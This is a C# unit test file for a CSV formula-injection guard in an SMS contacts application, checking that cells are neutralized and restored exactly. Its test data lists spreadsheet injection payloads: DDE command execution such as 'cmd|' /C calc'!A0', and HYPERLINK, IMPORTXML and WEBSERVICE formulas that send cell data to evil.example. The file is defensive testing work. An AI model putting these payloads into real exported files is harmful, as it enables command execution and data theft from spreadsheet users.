using System.Text;
using System.Text.Json;
using CsCheck;
using CsvHelper;
using SmsContacts.Web.Infrastructure.Csv;

namespace SmsContacts.Tests.Infrastructure.Csv;

/// <summary>
/// The formula guard against what a spreadsheet does with a cell: it may split the cell again on any of
/// <c>, ; tab | CR LF</c> (a file opened with another separator, or a person's Text to Columns), it may
/// trim what looks like blank space, and a piece that starts with a double quote may lose it (read as a
/// quoted value). Whichever it does, no piece may start with a formula, and
/// <see cref="CsvFormulaGuard.Restore"/> must give back exactly what went in.
/// </summary>
public sealed class CsvFormulaGuardTests
{
    /// <summary>Pieces a cell is built from: triggers, separators, blanks of every kind, apostrophes, digits, text, payloads.</summary>
    private static readonly string[] Atoms =
    [
        "=", "+", "-", "@", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20",
        ",", ";", "\t", "|", "\r", "\n", "\"",
        " ", "\u00A0", "\u2007", "\u202F", "\u3000", "\u200B", "\u200E", "\u2060", "\uFEFF", "\u2028", "\u0085", "\0", "\u000B", "\u001F", "\u007F",
        "'", "''", "0", "1", "5", "9", ".", "e", "a", "Z", "é", "漢", "😀", "\uD800",
        "+15551234567", "-12.5", "cmd|' /C calc'!A0", "HYPERLINK(\"http://evil.example\",\"x\")", "SUM(1,2)", "1+1", "DDE(\"cmd\";\"/C calc\";\"!A0\")",
    ];

    private static readonly Gen<string> Cell = Gen.OneOf(Atoms).Array[0, 10].Select(string.Concat);

    /// <summary>Payloads from OWASP's CSV injection page and the write-ups it cites, with the variants the guard must also catch.</summary>
    public static readonly TheoryData<string> Payloads = new()
    {
        "=1+2",
        "=HYPERLINK(\"http://evil.example?leak=\"&A1&A2,\"Error: please click for further information\")",
        "=cmd|' /C calc'!A0",
        "+cmd|' /C calc'!A0",
        "-cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=10+20+cmd|' /C calc'!A0",
        "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
        "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
        "=WEBSERVICE(\"http://evil.example/\"&A1)",
        "=1+2\";=1+2",
        "=1+2'\" ;,=1+2",
        "a;=1+1",
        "a,=1+1",
        "a|=1+1",
        "a\t=1+1",
        "a\n=1+1",
        "a\r\n@SUM(1,2)",
        "a;\"=1+1",
        "a;\"\"=1+1",
        "a; \"@SUM(1,2)",
        "a; =1+1",
        "a;\u00A0=1+1",
        " =1+1",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\0=1+1",
        "\u00A0=1+1",
        "\u3000=1+1",
        "\u200B=1+1",
        "\uFEFF=1+1",
        "\u2028=1+1",
        "\uFF1D1+1",
        "\uFF0Bcmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "+1.",
        "+1e5",
        "-5;x",
        "-5|=1",
        "'=already",
        "a;'=already",
        "''+1",
        "\tanything",
        "\ranything",
        "\0",
    };

    [Theory]
    [MemberData(nameof(Payloads))]
    public void Neutralize_GuardsEveryPayload_SoNoPieceOfTheCellStartsAFormula_AndRestoreGivesItBack(string payload)
    {
        var guarded = CsvFormulaGuard.Neutralize(payload);

        Assert.NotEqual(payload, guarded);
        AssertNoPieceStartsAFormula(payload, guarded);
        Assert.Equal(payload, CsvFormulaGuard.Restore(guarded));
    }

    [Theory]
    [InlineData("a;=1+1", "a;'=1+1")]
    [InlineData("a,=1+1", "a,'=1+1")]
    [InlineData("a; =1+1", "a;' =1+1")]
    [InlineData(" =1+1", "' =1+1")]
    [InlineData("\t=1+1", "'\t'=1+1")]
    [InlineData("\u00A0=1+1", "'\u00A0=1+1")]
    [InlineData("=1+2\";=1+2", "'=1+2\";'=1+2")]
    [InlineData("a;'=x", "a;''=x")]
    [InlineData("-5;x", "'-5;x")]
    [InlineData("x;-5", "x;-5")]
    [InlineData("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")")]
    [InlineData("=HYPERLINK(\"=x\")", "'=HYPERLINK(\"=x\")")]
    [InlineData("a;\"=x\"", "a;'\"=x\"")]
    [InlineData("\"=2+5\" contains \"=\"", "\"=2+5\" contains \"=\"")]
    public void Neutralize_PutsTheApostropheWhereEachPieceStarts(string value, string expected) =>
        Assert.Equal(expected, CsvFormulaGuard.Neutralize(value));

    [Theory]
    [InlineData("+15551234567")]
    [InlineData("+447911123456")]
    [InlineData("-12.5")]
    [InlineData("-5")]
    [InlineData("Jane")]
    [InlineData("'Tis the season")]
    [InlineData("O'Brien")]
    [InlineData("")]
    [InlineData("2026-01-01T00:00:00Z")]
    [InlineData("Last 1, Jr.")]
    [InlineData("a;b|c\td")]
    [InlineData("first.last+tag@example.com")]
    [InlineData("x;-5")]
    [InlineData("1-800-FLOWERS")]
    [InlineData("Zoë; Anaïs")]
    public void Neutralize_LeavesPlainNumbersAndTextAlone(string value) =>
        Assert.Equal(value, CsvFormulaGuard.Neutralize(value));

    [Fact]
    public void Restore_LeavesAnApostropheAPersonTyped()
    {
        Assert.Equal("'Tis", CsvFormulaGuard.Restore("'Tis"));
        Assert.Equal("'+15551234567", CsvFormulaGuard.Restore("'+15551234567"));
        Assert.Equal("a;'b", CsvFormulaGuard.Restore("a;'b"));
        Assert.Equal("a'=b", CsvFormulaGuard.Restore("a'=b"));
    }

    [Fact]
    public void GeneratedCells_RestoreUndoesNeutralize_AndNoPieceStartsAFormula_OnTextAndOnUtf8()
    {
        Cell.Sample(
            value =>
            {
                var guarded = CsvFormulaGuard.Neutralize(value);
                Assert.Equal(value, CsvFormulaGuard.Restore(guarded));
                Assert.Equal(guarded != value, CsvFormulaGuard.NeedsGuard(value));
                AssertNoPieceStartsAFormula(value, guarded);

                // The export guards UTF-8 bytes in place: the same verdict and the same bytes.
                var utf8 = Encoding.UTF8.GetBytes(value);
                Assert.Equal(CsvFormulaGuard.NeedsGuard(value), CsvFormulaGuard.NeedsGuard(utf8));
                var destination = new byte[CsvFormulaGuard.MaxGuardedLength(utf8.Length)];
                var written = CsvFormulaGuard.Neutralize(utf8, destination);
                Assert.Equal(Encoding.UTF8.GetBytes(guarded), destination[..written]);
            },
            iter: 100_000,
            print: Show);
    }

    [Fact]
    public void GeneratedRows_WrittenAsCsvAndReadBack_AreRestoredExactly()
    {
        Cell.Array[1, 6].Sample(
            cells =>
            {
                using var stream = new MemoryStream();
                using (var writer = CsvWriter.Create(stream, CsvWriterOptions.Default with { WriteByteOrderMark = true }, leaveOpen: true))
                {
                    // As in our files, the rows come after a byte order mark and a first column of our own.
                    writer.WriteField("row");
                    foreach (var cell in cells)
                    {
                        writer.WriteField(CsvFormulaGuard.Neutralize(cell));
                    }

                    writer.EndRecord();
                    writer.Flush();
                }

                using var reader = CsvReader.Create(stream.ToArray(), CsvReaderOptions.Default with { HasHeader = false, Separator = ',' });
                Assert.True(reader.Read());

                // A lone surrogate cannot be written as UTF-8 at all: expect what a UTF-8 file can hold.
                var representable = cells.Select(c => Encoding.UTF8.GetString(Encoding.UTF8.GetBytes(c)));
                Assert.Equal(representable, Enumerable.Range(1, reader.FieldCount - 1).Select(i => CsvFormulaGuard.Restore(reader.GetString(i))));
            },
            iter: 5_000,
            print: cells => string.Join(" | ", cells.Select(Show)));
    }

    [Fact]
    public void EveryNaughtyString_AloneAndBehindEachSeparator_IsGuardedAndRestored()
    {
        var strings = JsonSerializer.Deserialize<string[]>(File.ReadAllText(Path.Combine(AppContext.BaseDirectory, "Infrastructure", "Csv", "NaughtyStrings", "blns.json")))!;
        Assert.Equal(485, strings.Length);

        var checkedCells = 0;
        foreach (var naughty in strings)
        {
            foreach (var value in CsvFormulaGuard.Separators.Select(s => "text" + s + naughty).Prepend(naughty))
            {
                var guarded = CsvFormulaGuard.Neutralize(value);
                AssertNoPieceStartsAFormula(value, guarded);
                Assert.Equal(value, CsvFormulaGuard.Restore(guarded));
                checkedCells++;
            }
        }

        Assert.Equal(485 * (CsvFormulaGuard.Separators.Length + 1), checkedCells);
    }

    private static void AssertNoPieceStartsAFormula(string value, string guarded) =>
        Assert.True(SpreadsheetView.FormulaPiece(guarded) is null, $"{SpreadsheetView.Show(value)} was written as {SpreadsheetView.Show(guarded)}, and {SpreadsheetView.FormulaPiece(guarded)}");

    private static string Show(string value) => SpreadsheetView.Show(value);
}
